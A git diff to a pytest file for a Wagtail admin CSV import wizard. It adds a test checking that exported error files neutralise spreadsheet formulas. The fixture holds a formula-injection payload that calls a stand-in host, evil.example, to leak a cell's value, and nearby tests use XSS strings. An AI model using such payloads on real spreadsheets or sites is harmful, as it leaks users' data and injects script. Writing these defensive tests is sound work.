@@ -1,5 +1,7 @@
 """The import wizard in the Wagtail admin, driven through the test client."""
 
+import csv
+import io
 from pathlib import Path
 
 import pytest
@@ -166,6 +168,21 @@ def test_html_in_cells_and_headers_is_escaped_on_every_page(client, importer):
         assert "<img src=x" not in html
         assert "<script>alert(1)" not in html
     assert "&lt;img src=x onerror=alert(2)&gt;" in pages[1].content.decode()
+
+
+def test_the_error_file_neutralises_formulas_in_the_header_row(client, importer):
+    client.force_login(importer)
+    data = b'email,"=HYPERLINK(""http://evil.example/?""&A2,""x"")"\nnot-an-email,Ann\n'
+    upload(client, data)
+    job = ImportJob.objects.get()
+    client.post(
+        reverse("crm_imports_map", args=[job.pk]),
+        map_post(job, {"email": "email", job.headers[1]: "first_name"}),
+    )
+    body = client.get(reverse("crm_imports_errors", args=[job.pk]) + "?dry_run=1")
+    header = next(csv.reader(io.StringIO(body.content.decode())))
+    assert header[2] == "'" + job.headers[1]
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in header)
 
 
 def test_every_step_refuses_a_user_without_import_permission(client, outsider, importer):
